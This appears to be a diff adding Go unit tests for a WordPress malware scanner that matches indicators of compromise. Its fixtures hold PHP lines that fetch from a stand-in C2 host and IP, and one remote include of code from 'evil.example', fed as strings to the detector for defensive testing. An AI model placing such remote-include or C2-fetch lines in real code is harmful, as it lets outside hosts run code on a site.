@@ -0,0 +1,56 @@
+package scanner
+
+import (
+	"context"
+	"strings"
+	"testing"
+
+	"github.com/greysquirr3l/wordfence-go/internal/intel"
+)
+
+func TestExtractIndicators(t *testing.T) {
+	iocs, err := intel.ParseIOCSet([]byte("evil.example C2\n203.0.113.7\n"))
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	content := []byte(`<?php
+$u = "https://cdn.evil.example/gate.php?id=1";
+file_get_contents("http://203.0.113.7/x");
+file_get_contents("https://cdn.evil.example/other");
+echo "https://wordpress.org/";`)
+
+	matches := ExtractIndicators(content, iocs)
+	if len(matches) != 2 {
+		t.Fatalf("expected 2 indicators, got %d", len(matches))
+	}
+
+	byIndicator := make(map[string]*IndicatorMatch)
+	for _, m := range matches {
+		byIndicator[m.Indicator] = m
+	}
+	if m := byIndicator["cdn.evil.example"]; m == nil || m.IOC.Value != "evil.example" {
+		t.Errorf("expected cdn.evil.example to match evil.example, got %+v", m)
+	}
+	if m := byIndicator["203.0.113.7"]; m == nil || m.Position != strings.Index(string(content), "203.0.113.7") {
+		t.Errorf("expected 203.0.113.7 at its first position, got %+v", m)
+	}
+}
+
+func TestScanReportsIndicators(t *testing.T) {
+	iocs, err := intel.ParseIOCSet([]byte("evil.example C2\n"))
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	s := NewScanner(createTestSignatureSet(), WithIOCs(iocs))
+	result := s.ScanReader(context.Background(), StdinPath, strings.NewReader(`<?php include "http://evil.example/x.txt";`))
+	if len(result.Matches) != 1 || result.Matches[0].IOC == nil {
+		t.Fatalf("expected one IOC match, got %+v", result.Matches)
+	}
+
+	name, desc := result.Matches[0].Describe(s.SignatureSet())
+	if name != "File contacts known malicious domain" || !strings.Contains(desc, "evil.example") {
+		t.Errorf("unexpected description %q / %q", name, desc)
+	}
+}